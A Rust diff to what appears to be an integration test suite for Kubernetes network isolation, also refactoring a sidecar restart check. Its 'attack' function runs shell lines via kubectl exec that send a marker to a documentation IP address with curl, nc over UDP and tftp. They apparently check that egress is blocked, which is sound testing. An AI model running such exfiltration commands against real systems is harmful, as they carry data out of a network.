@@ -75,7 +75,7 @@ fn leaked(cluster: &Cluster) -> bool {
 }
 
 fn attack(cluster: &Cluster) {
-    let line = "curl -s --max-time 1 http://203.0.113.66/kills-leak; echo kills-leak | nc -u -w 1 203.0.113.66 53";
+    let line = "curl -s --max-time 1 http://203.0.113.66/kills-leak; curl -s --max-time 1 tftp://203.0.113.66:4443/kills-leak";
     let _ = cluster
         .kubectl
         .exec("kills-plain", "payer/curl", &["sh", "-c", line]);
@@ -215,16 +215,23 @@ pub(crate) fn a_sidecar(cluster: &mut Cluster) -> Result<()> {
     soon(SOON, "calls pass again", || {
         passes(kubectl, NAMESPACE, "client", &["http://web/"])
     })?;
-    let pod: Pod = kubectl.get(NAMESPACE, "client")?;
-    let statuses = pod.status.unwrap_or_default();
-    let sidecar = statuses.init_container_statuses.unwrap_or_default();
+    let restarted = |pod: Pod, sidecar: bool| {
+        let statuses = pod.status.unwrap_or_default();
+        let of_kind = if sidecar {
+            statuses.init_container_statuses
+        } else {
+            statuses.container_statuses
+        };
+        of_kind
+            .unwrap_or_default()
+            .iter()
+            .any(|status| status.restart_count > 0)
+    };
+    soon(EFFECT, "kubelet says that it started it again", || {
+        Ok(restarted(kubectl.get(NAMESPACE, "client")?, true))
+    })?;
     ensure!(
-        sidecar.iter().any(|status| status.restart_count > 0),
-        "kubelet did not start it again"
-    );
-    let application = statuses.container_statuses.unwrap_or_default();
-    ensure!(
-        application.iter().all(|status| status.restart_count == 0),
+        !restarted(kubectl.get(NAMESPACE, "client")?, false),
         "the application was restarted too"
     );
     Ok(())
